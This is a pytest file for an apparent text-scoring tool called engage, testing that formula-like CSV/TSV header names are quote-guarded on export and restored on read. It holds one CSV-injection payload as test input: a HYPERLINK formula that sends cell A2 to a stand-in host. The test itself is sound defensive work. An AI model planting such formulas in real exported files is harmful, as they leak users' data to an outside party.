"""Header cells are cells: a column named like a formula is guarded in every CSV/TSV engage writes (the app's
downloads, `engage score`, `engage explain FILE --out`), and engage's reader gives the original names back."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from engage.formula_guard import FORMULA_START, guard_frame, unguard_frame
from engage.outputs import TableWriter, to_csv_bytes
from engage.reading import read_messages, read_table
from engage.validation import Validation

EVIL = '=HYPERLINK("http://x.example/?leak="&A2,"click")'
COLUMNS = ["text", EVIL, "@who", "'=already quoted", "+44", "plain"]


def _frame(columns: list[str] = COLUMNS) -> pd.DataFrame:
    return pd.DataFrame([["my order is late", *"abcde"], ["love it", *"fghij"]], columns=COLUMNS)[columns]


def _raw_header(data: bytes, sep: str = ",") -> list[str]:
    """The header row as a spreadsheet gets it (no engage reader in between)."""
    return pd.read_csv(io.BytesIO(data), sep=sep, dtype=str, nrows=0).columns.tolist()


def _assert_guarded(header: list[str]) -> None:
    assert not [c for c in header if c.startswith(FORMULA_START)], header
    assert "'" + EVIL in header and "'@who" in header and "plain" in header
    assert "''=already quoted" in header or "'=already quoted" not in header


def test_guard_frame_guards_the_header_and_unguard_frame_restores_it():
    guarded = guard_frame(_frame())
    _assert_guarded(guarded.columns.tolist())
    assert unguard_frame(guarded).columns.tolist() == COLUMNS


def test_the_apps_csv_download_guards_the_header_and_reads_back():
    data = to_csv_bytes(_frame())  # what the Score page and the labels export offer
    _assert_guarded(_raw_header(data))
    assert read_table(data, name="scored.csv").columns.tolist() == COLUMNS


@pytest.mark.parametrize("suffix, sep", [(".csv", ","), (".tsv", "\t")])
def test_table_writer_guards_the_header_with_and_without_rows(tmp_path, suffix, sep):
    out = tmp_path / f"scored{suffix}"
    with TableWriter(out) as writer:
        writer.write(_frame())
    _assert_guarded(_raw_header(out.read_bytes(), sep))
    assert read_messages(out).frame.columns.tolist() == COLUMNS
    empty = tmp_path / f"flagged{suffix}"
    with TableWriter(empty) as writer:
        writer.columns = COLUMNS  # a flagged-only output where no row was flagged: the header alone
    _assert_guarded(_raw_header(empty.read_bytes(), sep))


@pytest.fixture(scope="module")
def model_env(hub_fixture, tmp_path_factory) -> dict[str, str]:
    from engage.encoders import load_encoder
    from engage.head import HeadConfig
    from engage.train import train_model

    base = tmp_path_factory.mktemp("header-guard")
    rows = [("where is my refund?? order 123", 1), ("love the new phone", 0), ("my package never came", 1),
            ("thanks team, all good", 0)] * 5
    labeled = base / "labeled.csv"
    pd.DataFrame({"text": [t for t, _ in rows], "label": [y for _, y in rows]}).to_csv(labeled, index=False)
    train_model(read_messages(labeled, label_col="label"), load_encoder(str(hub_fixture)),
                HeadConfig(elmo_branch="linear"), name="guarded", activate=True, root=base / "models",
                validation=Validation.held_out(0.3))
    return {"ENGAGE_MODELS_DIR": str(base / "models"), "ENGAGE_CACHE_DIR": str(base / "cache")}


@pytest.mark.parametrize("command", ["score", "score-flagged", "explain"])
@pytest.mark.parametrize("suffix, sep", [(".csv", ","), (".tsv", "\t")])
def test_engage_score_and_explain_guard_the_header(model_env, tmp_path, monkeypatch, command, suffix, sep):
    from engage.cli import run

    for key, value in model_env.items():
        monkeypatch.setenv(key, value)
    source = tmp_path / f"in{suffix}"
    columns = [c for c in COLUMNS if not c.startswith("'")]  # a file from elsewhere: '= would be read as guarded
    _frame(columns).to_csv(source, index=False, sep=sep)  # its header unguarded
    out = tmp_path / f"out{suffix}"
    args = {"score": ["score", str(source), "--out", str(out)],
            "score-flagged": ["score", str(source), "--out", str(out), "--flagged-only", "--threshold", "1.0"],
            "explain": ["explain", str(source), "--out", str(out)]}[command]
    assert run(args) == 0
    header = _raw_header(out.read_bytes(), sep)
    _assert_guarded(header)
    assert read_table(out).columns.tolist()[:len(columns)] == columns
